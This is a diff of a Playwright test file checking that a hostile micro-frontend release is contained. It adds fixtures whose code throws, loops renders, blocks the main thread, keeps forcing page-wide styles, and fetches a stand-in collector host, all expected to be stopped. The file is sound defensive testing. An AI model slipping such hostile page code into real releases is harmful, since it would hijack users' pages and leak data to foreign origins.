@@ -1,68 +1,34 @@
 // What a hostile release does once it runs in a page. What is refused before is in api/src/releases/two-teams.test.ts.
-import { writeFile } from 'node:fs/promises';
-import { join } from 'node:path';
-import { integrityOf } from '@baza/shared/build/integrity';
 import { expect } from '@playwright/test';
+import { apiAs, ok } from '../support/api.ts';
 import { test } from '../support/test.ts';
 import { localeTexts } from '../support/texts.ts';
 import { isSomebodys, openRegistry, type TestRegistry } from './released.ts';
 import { firstCard, goInPage, mapOf, watchVersions } from './screens.ts';
+import { entryOf, releaseWritten } from './written.ts';
 
 test.skip(isSomebodys, 'a registry in use must not be changed');
 test.use({ serviceWorkers: 'block', mayComplain: true });
 
 const t = localeTexts('ru');
 const LEAK = 'leak.1a2b3c4d.css';
+const hostile = (version: string, entry: string, more?: object) =>
+  releaseWritten(registry, { remote: 'mf_map', version, entry, ...more });
+const pageWith = (component: string) => entryOf('mf_map', { './lifecycles': component });
 let registry: TestRegistry;
 test.beforeEach(async ({ request }) => {
   registry = await openRegistry(request);
 });
 test.afterEach(() => registry.restore());
 
-/** Makes a release of the map stable whose entry is written by hand, as no build of ours would. */
-async function release(version: string, entry: string, css = ''): Promise<void> {
-  await registry.release('mf_map', version);
-  const file = registry.manifest('mf_map').entry;
-  await writeFile(join(registry.folder('mf_map', version), file), entry);
-  await writeFile(join(registry.folder('mf_map', version), LEAK), css);
-  await registry.change((remote) => {
-    const { channels, releases } = remote('mf_map');
-    const manifest = releases[version]?.manifest;
-    if (!manifest) throw new Error(`${version} is not there`);
-    Object.assign(manifest.integrity, { [file]: integrityOf(entry), [LEAK]: integrityOf(css) });
-    delete manifest.server;
-    channels.stable = version;
-  });
-}
-
-/** An entry in Module Federation's protocol, with a page of this component. */
-const entryWith = (component: string) => `
-var mf_map = (() => {
-  let scope;
-  const shared = async (name) => {
-    const [module] = Object.values(scope[name]);
-    return (module.lib ?? (await module.get()))();
-  };
-  return {
-    init(given) { scope = given; },
-    async get() {
-      const names = ['react', 'react-router-dom', '@baza/shared/contract'];
-      const [React, { Route }, { defineRemote }] = await Promise.all(names.map(shared));
-      function Page() { ${component} }
-      const routes = React.createElement(Route, { path: '*', element: React.createElement(Page) });
-      return () => defineRemote({ name: 'mf_map', routes });
-    },
-  };
-})();`;
-
-test('a hostile remote is contained, and other screens work', async ({ page }) => {
+test('a hostile remote is contained, and other screens work', async ({ page, request }) => {
   const othersWork = async () => {
     await goInPage(page, '/ru/products');
     await expect(firstCard(page)).toBeVisible();
   };
 
   await test.step('it throws while it is evaluated: the release before takes over', async () => {
-    await release('9.7.0-throws', 'throw new Error("hostile");');
+    await hostile('9.7.0-throws', 'throw new Error("hostile");');
     const versions = watchVersions(page);
     await page.goto('/ru/search-on-map');
     await expect(mapOf(page, t)).toBeVisible();
@@ -72,7 +38,7 @@ test('a hostile remote is contained, and other screens work', async ({ page }) =
 
   await test.step('it renders without end: it is stopped, and its place says so', async () => {
     const loop = 'const [n, set] = React.useState(0); React.useEffect(() => set(n + 1)); return String(n);';
-    await release('9.7.1-loops', entryWith(loop));
+    await hostile('9.7.1-loops', pageWith(loop));
     await page.goto('/ru/search-on-map');
     await expect(page.getByRole('alert').filter({ hasText: t.remotes('title.crashed') })).toBeVisible();
     await othersWork();
@@ -80,9 +46,9 @@ test('a hostile remote is contained, and other screens work', async ({ page }) =
 
   await test.step('it blocks, styles the whole page and sends to a foreign origin: nothing is left of it', async () => {
     const outline = () => page.evaluate(() => getComputedStyle(document.body).outlineWidth);
-    await release(
+    await hostile(
       '9.7.2-reaches-out',
-      entryWith(`
+      pageWith(`
         const [sent, setSent] = React.useState('asking');
         React.useEffect(() => {
           for (const end = performance.now() + 1500; performance.now() < end; );
@@ -91,16 +57,69 @@ test('a hostile remote is contained, and other screens work', async ({ page }) =
           const own = document.createElement('link');
           Object.assign(own, { rel: 'stylesheet', href: '/remotes/mf_map/9.7.2-reaches-out/${LEAK}' });
           document.head.append(own, inline);
+          const made = new CSSStyleSheet();
+          made.replaceSync('body { outline: 8px solid red !important }');
+          setInterval(() => {
+            const ruled = document.createElement('style');
+            document.head.append(ruled);
+            try { ruled.sheet.insertRule('body { outline: 8px solid red !important }'); } catch {}
+            document.adoptedStyleSheets = [made];
+          }, 200);
           fetch('https://collector.example/').then(() => setSent('sent'), () => setSent('not sent'));
         }, []);
         return sent;`),
-      'body { outline: 7px solid red }',
+      { files: { [LEAK]: 'body { outline: 7px solid red }' } },
     );
     await page.goto('/ru/search-on-map');
     await expect(page.getByText('not sent', { exact: true })).toBeVisible();
-    // Its own sheet is a file of the release, which the gate would have refused: it applies, but not for others.
+    // Its own sheet is a file of the release, which the gate would have refused: it applies, but not for others. Sheets
+    // that its code has made are gone, and refused from now on.
     await expect.poll(outline).toBe('7px');
     await othersWork();
-    await expect.poll(outline).not.toBe('7px');
+    await expect.poll(outline).not.toMatch(/^[789]px$/);
   });
+
+  await test.step('and how long it blocked is counted against it', async () => {
+    // Figures are sent once a page is left.
+    await page.goto('about:blank');
+    const sum =
+      /^baza_browser_measurement_sum\{name="remote-block",remote="mf_map",version="9\.7\.2-.*"\} (\d+)/m;
+    const blocked = async () => Number(sum.exec(await (await request.get('/metrics')).text())?.[1]);
+    await expect.poll(blocked).toBeGreaterThan(1400);
+  });
+});
+
+test('a parcel of another team’s remote fills a slot of a page; one that throws leaves nothing behind', async ({
+  page,
+}) => {
+  const { items } = await ok<{ items: { id: number }[] }>(
+    (await apiAs(null)).get('public/listings?category=ResidentialMultiStorey_Sell&size=1'),
+  );
+  const [listing] = items;
+  const promote = (version: string, promo: string) =>
+    releaseWritten(registry, {
+      ...{ remote: 'mf_desk', version },
+      entry: entryOf('mf_desk', { './promo': promo }),
+      manifest: {
+        exposes: [...registry.manifest('mf_desk').exposes, './promo'],
+        slots: [{ slot: 'listing.after-price', expose: './promo', weight: 1, height: 40 }],
+      },
+    });
+  const open = async () => {
+    await page.goto(`/ru/products/product/${listing?.id}`);
+    await expect(page.getByRole('main').getByRole('heading', { level: 1 })).toBeVisible();
+  };
+  const filled = page.locator('[data-of=mf_desk]');
+
+  await promote('9.6.0-promo', 'return "Promo of " + props.listing;');
+  await open();
+  await expect(page.getByText(`Promo of ${listing?.id}`, { exact: true })).toBeVisible();
+  await expect(filled).toHaveCount(1);
+
+  await promote('9.6.1-promo', 'throw new Error("hostile");');
+  const versions = watchVersions(page);
+  await open();
+  await expect.poll(() => versions('mf_desk')).toContain('9.6.1-promo');
+  await expect(filled).toHaveCount(0);
+  await expect(page.getByRole('main').getByRole('alert')).toHaveCount(0);
 });
